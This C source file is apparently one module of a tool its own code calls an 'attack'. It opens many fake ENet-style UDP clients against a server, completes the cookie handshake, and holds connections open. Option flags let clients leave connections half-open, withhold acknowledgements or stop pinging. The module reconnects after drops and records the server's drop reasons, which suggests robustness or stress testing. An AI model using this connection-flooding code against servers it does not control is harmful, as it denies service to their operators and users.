#include "peer.h"

#include <string.h>
#include <unistd.h>

#define ASK_NS     (250 * (int64_t)1000000)
#define CONNECT_NS (500 * (int64_t)1000000)
#define PING_NS    (500 * (int64_t)1000000)
#define REST_NS    (100 * (int64_t)1000000) // between a drop and the next attempt

void Peer_Start(attack_t *attack, peer_t *peer) {
    if (peer->state != PEER_CLOSED) {
        close(peer->fd);
    }
    peer->fd = Socket_From(attack, peer->host);
    peer->state = PEER_ASKING;
    peer->next_ns = 0;
    peer->control = 1; // of the CONNECT
    memset(peer->sequence, 0, sizeof peer->sequence);
    memset(peer->unreliable, 0, sizeof peer->unreliable);
    peer->usercmds = 0;
    peer->is_verified = false;
    uint32_t id = Attack_Random();
    memcpy(peer->connect_id, &id, sizeof id);
}

void Peer_Begin(const peer_t *peer, datagram_t *out) {
    Wire_Begin(out, peer->number, Clock_Ms());
}

void Peer_Send(attack_t *attack, const peer_t *peer, datagram_t *out) {
    Wire_Seal(out, peer->connect_id);
    Socket_Send(attack, peer->fd, out->bytes, out->size);
}

void Peer_Say(attack_t *attack, peer_t *peer, const uint8_t *message, size_t size) {
    datagram_t out;
    Peer_Begin(peer, &out);
    Wire_Reliable(&out, 0, ++peer->sequence[0], size);
    Wire_Bytes(&out, message, size);
    Peer_Send(attack, peer, &out);
}

static void put_ack(datagram_t *out, const datagram_t *in, size_t at) {
    Wire_Command(out, ENET_ACK, in->bytes[at + 1], Wire_GetU16(in, at + 2));
    Wire_U16(out, Wire_GetU16(in, at + 2));
    Wire_U16(out, Wire_GetU16(in, 2));
}

static void join(attack_t *attack, peer_t *peer) {
    uint8_t message[300];
    Peer_Say(attack, peer, message, Wire_Hello(message, peer->greet ? peer->greet : "intruder"));
    if (!peer->loads) {
        Peer_Say(attack, peer, message, Wire_Ready(message, 1));
    }
}

void Peer_Complete(attack_t *attack, peer_t *peer) {
    datagram_t out;
    Peer_Begin(peer, &out);
    put_ack(&out, &peer->verify, ENET_HEADER_BYTES);
    Peer_Send(attack, peer, &out);
    if (peer->state == PEER_CONNECTING) {
        peer->state = PEER_CONNECTED;
        peer->ping_ns = Clock_Ns();
        attack->connected++;
        if (peer->joins) {
            join(attack, peer);
        }
    }
}

static void verified(attack_t *attack, peer_t *peer, const datagram_t *in, size_t at) {
    peer->number = Wire_GetU16(in, at + 4) | (in->bytes[at + 7] & 3u) << 12;
    peer->is_verified = at == ENET_HEADER_BYTES;
    peer->verify = *in;
    if (!peer->half_open && peer->is_verified) {
        Peer_Complete(attack, peer);
    }
}

static void gone(attack_t *attack, peer_t *peer, uint32_t reason) {
    if (peer->state == PEER_CONNECTED) {
        attack->first_drop_ms = attack->dropped++ ? attack->first_drop_ms : Clock_Ns() / 1000000;
        attack->reasons[reason < ATTACK_REASONS ? reason : 0]++;
    }
    peer->state = PEER_GONE;
    peer->next_ns = Clock_Ns() + REST_NS;
}

static void read_commands(attack_t *attack, peer_t *peer, const datagram_t *in) {
    datagram_t acks;
    Peer_Begin(peer, &acks);
    size_t start = Wire_GetU16(in, 0) & ENET_SENT_TIME ? ENET_HEADER_BYTES : ENET_HEADER_BYTES - 2;
    for (size_t at = start, size; (size = Wire_CommandBytes(in, at)) > 0; at += size) {
        uint32_t command = in->bytes[at] & 0xfu;
        if (command == ENET_VERIFY) {
            verified(attack, peer, in, at);
        } else if (command == ENET_DISCONNECT) {
            gone(attack, peer, Wire_GetU32(in, at + 4));
        } else if ((in->bytes[at] & ENET_WANTS_ACK) && !peer->deaf) {
            put_ack(&acks, in, at);
        }
    }
    if (acks.size > ENET_HEADER_BYTES && peer->state == PEER_CONNECTED) {
        Peer_Send(attack, peer, &acks);
    }
}

static void receive(attack_t *attack, peer_t *peer, const datagram_t *in) {
    datagram_t out;
    uint32_t id;
    if (Wire_GetU32(in, 0) != 0xffffffffu) {
        read_commands(attack, peer, in);
    } else if (memcmp(in->bytes + 4, "cookie", 6) == 0 && peer->state == PEER_ASKING) {
        memcpy(&id, peer->connect_id, sizeof id);
        Wire_Connect(&out, Wire_GetU32(in, 14), ntohl(id), 0, peer->mtu ? peer->mtu : 1392);
        Socket_Send(attack, peer->fd, out.bytes, out.size);
        peer->state = PEER_CONNECTING;
        peer->next_ns = Clock_Ns() + CONNECT_NS;
    } else if (memcmp(in->bytes + 4, "refused", 7) == 0) {
        gone(attack, peer, 0);
    }
}

static void run_timers(attack_t *attack, peer_t *peer, int64_t now_ns) {
    datagram_t out;
    if (peer->state == PEER_CONNECTED) {
        if (now_ns >= peer->ping_ns && !peer->frozen) {
            peer->ping_ns = now_ns + PING_NS;
            Peer_Begin(peer, &out);
            Wire_Command(&out, ENET_PING | ENET_WANTS_ACK, ENET_CONTROL, ++peer->control);
            Peer_Send(attack, peer, &out);
        }
        return;
    }
    if (now_ns < peer->next_ns || (peer->state == PEER_GONE && peer->stays_away)) {
        return;
    }
    if (peer->state == PEER_GONE) {
        Peer_Start(attack, peer);
    }
    if (peer->state == PEER_CONNECTING && peer->half_open) {
        return;
    }
    peer->state = PEER_ASKING;
    peer->next_ns = now_ns + ASK_NS;
    Wire_CookieRequest(&out, Attack_Random());
    Socket_Send(attack, peer->fd, out.bytes, out.size);
}

bool Peer_Step(attack_t *attack, peer_t *peer) {
    datagram_t in;
    for (int count = 0; count < 64 && Socket_Receive(attack, peer->fd, &in); count++) {
        receive(attack, peer, &in);
    }
    run_timers(attack, peer, Clock_Ns());
    return peer->state == PEER_CONNECTED;
}

int Peer_StepAll(attack_t *attack, peer_t *list, int count) {
    int connected = 0;
    for (int i = 0; i < count; i++) {
        if (list[i].state == PEER_CLOSED) {
            Peer_Start(attack, &list[i]);
        }
        connected += Peer_Step(attack, &list[i]);
    }
    return connected;
}

void Peer_Disconnect(attack_t *attack, peer_t *peer) {
    datagram_t out;
    Peer_Begin(peer, &out);
    Wire_Command(&out, ENET_DISCONNECT | ENET_UNSEQ_FLAG, ENET_CONTROL, ++peer->control);
    Wire_U32(&out, 0);
    Peer_Send(attack, peer, &out);
    peer->state = PEER_GONE;
    peer->next_ns = 0;
}

void Peer_CloseAll(attack_t *attack, peer_t *list, int count) {
    for (int i = 0; i < count; i++) {
        if (list[i].state == PEER_CONNECTED && attack->polite) {
            Peer_Disconnect(attack, &list[i]);
        }
        if (list[i].state != PEER_CLOSED) {
            close(list[i].fd);
            list[i].state = PEER_CLOSED;
        }
    }
}
